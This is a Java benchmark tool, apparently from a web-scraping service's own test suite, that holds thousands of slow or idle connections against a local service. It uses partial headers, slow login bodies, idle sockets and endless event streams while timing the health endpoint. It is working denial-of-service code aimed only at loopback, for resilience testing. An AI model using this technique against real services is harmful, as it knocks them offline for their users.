import com.sun.net.httpserver.HttpServer;
import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse.BodyHandlers;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.UUID;
import java.util.concurrent.Executors;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

/**
 * Holds connections to a service on this machine, as a stranger would, and prints each second how many are left, and how long
 * {@code GET /health} takes from another address.
 *
 * <p>Usage: {@code java bench/attacks/HoldConnections.java heads|bodies|idle|streams [connections] [addresses] [port] [seconds]}. The
 * connections come from {@code 127.1.0.1} and the addresses after it. Only loopback is attacked. Streams are events of a task
 * whose page never comes; the service needs BACTRIAN_EGRESS_ALLOW=127.0.0.0/8 and BACTRIAN_RATELIMIT_ENABLED=false for it.
 */
public final class HoldConnections {
    private static final int BODY = 16 << 20;

    public static void main(String[] arguments) throws Exception {
        String kind = arguments.length > 0 ? arguments[0] : "heads";
        int connections = number(arguments, 1, 10_000);
        int addresses = number(arguments, 2, 1);
        int port = number(arguments, 3, 3001);
        int seconds = number(arguments, 4, 60);
        byte[] first = kind.equals("streams") ? stream(port) : first(kind);
        List<Socket> held = new ArrayList<>();
        int refused = 0;
        for (int i = 0; i < connections; i++) {
            Socket socket = new Socket();
            try {
                socket.bind(new InetSocketAddress(InetAddress.getByName("127.1.0." + (1 + i % addresses)), 0));
                socket.connect(new InetSocketAddress("127.0.0.1", port), 2_000);
                socket.setSoTimeout(1);
                socket.getOutputStream().write(first);
                held.add(socket);
            } catch (IOException unable) {
                socket.close();
                refused++;
            }
        }
        System.out.printf("%d connections were opened, %d could not be%n", held.size(), refused);
        for (int second = 1; second <= seconds; second++) {
            long began = System.nanoTime();
            String health = health(port);
            long milliseconds = (System.nanoTime() - began) / 1_000_000;
            held.removeIf(socket -> hasEnded(socket, kind));
            System.out.printf("%3d s: %5d are left; /health: %s in %d ms%n", second, held.size(), health, milliseconds);
            Thread.sleep(1_000);
        }
        System.exit(0);
    }

    private static byte[] first(String kind) {
        String text =
                switch (kind) {
                    case "heads" -> "GET /health HTTP/1.1\r\nX-Slow: ";
                    case "bodies" ->
                        """
                        POST /auth/login HTTP/1.1\r
                        Host: localhost\r
                        Content-Type: application/json\r
                        Content-Length: %d\r
                        \r
                        %s"""
                                .formatted(BODY, " ".repeat(64 << 10));
                    case "idle" -> "";
                    default -> throw new IllegalArgumentException("There are heads, bodies, idle and streams, but not " + kind);
                };
        return text.getBytes(StandardCharsets.US_ASCII);
    }

    /** A request for the events of a task that an account of its own has, and that does not end. */
    private static byte[] stream(int port) throws IOException, InterruptedException {
        HttpServer site = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
        site.setExecutor(Executors.newVirtualThreadPerTaskExecutor());
        site.createContext("/", exchange -> {
            try {
                Thread.sleep(Duration.ofHours(1));
            } catch (InterruptedException end) {
                exchange.close();
            }
        });
        site.start();
        String token = post(port, "/auth/register", "", "token", """
                {"email": "%s@example.com", "password": "correct horse battery"}""".formatted(UUID.randomUUID()));
        String key = post(port, "/api-keys", token, "api_key", "{\"name\": \"Key\"}");
        String task = post(port, "/tasks", key, "id", """
                {"name": "Held", "task_type": "bulk_scraping", "config": {"urls": ["http://127.0.0.1:%d/"],
                 "selectors": {"x": "h1"}, "timeout": 120, "respect_robots_txt": false}}""".formatted(site.getAddress().getPort()));
        return "GET /tasks/%s/events HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer %s\r\n\r\n"
                .formatted(task, key)
                .getBytes(StandardCharsets.US_ASCII);
    }

    private static String post(int port, String path, String credential, String member, String body)
            throws IOException, InterruptedException {
        HttpRequest.Builder request = HttpRequest.newBuilder(URI.create("http://127.0.0.1:" + port + path))
                .header("Content-Type", "application/json")
                .POST(HttpRequest.BodyPublishers.ofString(body));
        if (!credential.isEmpty()) {
            request.header("Authorization", "Bearer " + credential);
        }
        String answer = HttpClient.newHttpClient().send(request.build(), BodyHandlers.ofString()).body();
        Matcher matcher = Pattern.compile("\"" + member + "\":\"([^\"]*)\"").matcher(answer);
        if (!matcher.find()) {
            throw new IllegalStateException("There is no " + member + " in " + answer);
        }
        return matcher.group(1);
    }

    /** Sends another octet, and looks whether the other side has ended the connection. */
    private static boolean hasEnded(Socket socket, String kind) {
        try {
            if (kind.equals("heads") || kind.equals("bodies")) {
                socket.getOutputStream().write('a');
            }
            return socket.getInputStream().read(new byte[4_096]) < 0;
        } catch (java.net.SocketTimeoutException open) {
            return false;
        } catch (IOException ended) {
            return true;
        }
    }

    private static String health(int port) {
        try (Socket socket = new Socket()) {
            socket.connect(new InetSocketAddress("127.0.0.1", port), 20_000);
            socket.setSoTimeout(20_000);
            socket.getOutputStream().write("GET /health HTTP/1.1\r\nHost: localhost\r\n\r\n".getBytes(StandardCharsets.US_ASCII));
            return new String(socket.getInputStream().readNBytes(12), StandardCharsets.US_ASCII);
        } catch (IOException failed) {
            return failed.getMessage();
        }
    }

    private static int number(String[] arguments, int index, int otherwise) {
        return arguments.length > index ? Integer.parseInt(arguments[index]) : otherwise;
    }
}
